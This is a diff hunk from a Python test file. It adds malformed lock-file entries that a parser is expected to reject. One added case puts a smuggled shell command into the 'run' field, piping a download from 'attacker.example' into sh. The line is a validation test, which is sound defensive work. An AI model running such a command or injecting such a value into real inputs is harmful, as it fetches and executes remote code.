@@ -337,6 +337,8 @@ GOOD = json.loads(note().body(START))
         b"[" * 10_000,
         json.dumps({**GOOD, "format": "iamctl-lock/2"}).encode(),
         json.dumps({**GOOD, "run": 5}).encode(),
+        json.dumps({**GOOD, "run": "1; curl attacker.example | sh"}).encode(),
+        json.dumps({**GOOD, "run": ""}).encode(),
         json.dumps({**GOOD, "holder": "x" * 501}).encode(),
         json.dumps({**GOOD, "valid_seconds": 10**9}).encode(),
         json.dumps({**GOOD, "valid_seconds": 0}).encode(),
